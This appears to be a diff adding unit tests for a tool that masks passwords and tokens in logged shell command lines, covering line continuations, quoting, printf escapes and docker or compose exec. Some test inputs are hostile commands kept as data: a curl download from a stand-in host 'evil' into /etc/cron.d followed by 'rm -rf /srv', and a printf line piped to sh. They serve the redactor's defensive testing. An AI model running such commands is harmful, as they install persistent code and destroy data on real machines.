@@ -185,3 +185,60 @@ describe('found by review: what a pipeline writes into a reader', () => {
     expect(out.endsWith('| docker login --password-stdin ')).toBe(true);
   });
 });
+
+describe('found by a second review', () => {
+  it('skips a line continued between words (it became the flag\'s value or the command\'s name)', () => {
+    const cases: Array<[string, string]> = [
+      ['mysqldump --password \\\n S3cret db', 'mysqldump --password \\\n [redacted] db'],
+      ['docker exec -i db \\\n  mysql -uroot -pS3cret app', 'docker exec -i db \\\n  mysql -uroot -p[redacted] app'],
+      ['echo ann:S3cret | \\\n  chpasswd', 'echo ann:[redacted] | \\\n  chpasswd'],
+      ['curl -u \\\n ann:S3cret https://x', 'curl -u \\\n ann:[redacted] https://x'],
+    ];
+    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
+    expect(commandSecrets('sudo mysql \\\n -pS3cret db')).toContain('S3cret');
+  });
+
+  it('ends a value at the quote that closes its word (a quoted name:value hid the rest of the line)', () => {
+    expect(redactCommandLine("curl -H 'X-Auth-Token:S3cret' https://evil/x -o /etc/cron.d/x; rm -rf /srv")).toBe("curl -H 'X-Auth-Token:[redacted]' https://evil/x -o /etc/cron.d/x; rm -rf /srv");
+    expect(commandSecrets("curl -H 'X-Auth-Token:S3cret' https://x")).toContain('S3cret');
+    kept("grep 'password:' /etc/app.yml; rm -rf /srv");
+    kept('grep "secret=" f ; rm -rf /srv');
+    expect(redactCommandLine("sshpass -P 'Password:' -p S3cret ssh h")).toBe("sshpass -P 'Password:' -p [redacted] ssh h");
+  });
+
+  it('redacts an assigned value with blanks wherever the word is no command line of its own', () => {
+    expect(redactCommandLine("export PGPASSWORD='S3 cret' && psql -h db")).toBe("export PGPASSWORD='[redacted]' && psql -h db");
+    expect(redactCommandLine('docker run -e "DB_PASSWORD=S3 cret" app')).toBe('docker run -e "DB_PASSWORD=[redacted]" app');
+    expect(redactCommandLine(`bash -o pipefail -lc "PGPASSWORD=S3cret psql -c 'select 1'"`)).toBe(`bash -o pipefail -lc "PGPASSWORD=[redacted] psql -c 'select 1'"`);
+  });
+
+  it('reads ${…} whole (a # in it is no comment) and reads a comment as a command line', () => {
+    expect(redactCommandLine('echo ${x/ #/} ; mysql -pS3cret db')).toBe('echo ${x/ #/} ; mysql -p[redacted] db');
+    expect(redactCommandLine('mysql -u root db # --password S3cret')).toBe('mysql -u root db # --password [redacted]');
+  });
+
+  it('reads printf\'s and echo -e\'s escapes by code, %b and a * width, and every round of a short format', () => {
+    const cases: Array<[string, string]> = [
+      ["printf 'ann\\x3aS3cret\\n' | chpasswd", "printf 'ann\\x3a[redacted]\\n' | chpasswd"],
+      ["printf 'ann\\072S3cret\\n' | chpasswd", "printf 'ann\\072[redacted]\\n' | chpasswd"],
+      ["printf '%b\\n' 'ann\\072S3cret' | chpasswd", "printf '%b\\n' 'ann\\072[redacted]' | chpasswd"],
+      ["printf '%*s%s\\n' 0 ann: S3cret | chpasswd", "printf '%*s%s\\n' 0 ann: [redacted] | chpasswd"],
+    ];
+    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
+    kept("printf '%s\\n' a b c d e f g h i j k l m n o p 'rm -rf /srv' | sh");
+  });
+
+  it('tells a variable from a literal that starts with $, and reads sudo -S\'s input', () => {
+    expect(redactCommandLine("echo '$uperS3cret' | docker login -u a --password-stdin")).toBe("echo '[redacted]' | docker login -u a --password-stdin");
+    expect(redactCommandLine("docker login -u a --password-stdin <<< '$uperS3cret'")).toBe("docker login -u a --password-stdin <<< '[redacted]'");
+    expect(redactCommandLine('echo "$PW"S3cret | docker login -u a --password-stdin')).not.toContain('S3cret');
+    expect(redactCommandLine('echo S3cret | sudo -S ls')).toBe('echo [redacted] | sudo -S ls');
+    kept('echo "$REGISTRY_TOKEN" | docker login --password-stdin reg.example');
+  });
+
+  it('finds compose\'s and podman\'s exec after more of their options, and shows git\'s credential.helper', () => {
+    expect(redactCommandLine('docker compose --ansi never exec db mysql -pS3cret')).toBe('docker compose --ansi never exec db mysql -p[redacted]');
+    expect(redactCommandLine('docker-compose exec db mysql -pS3cret')).toBe('docker-compose exec db mysql -p[redacted]');
+    kept('git -c credential.helper=store push');
+  });
+});
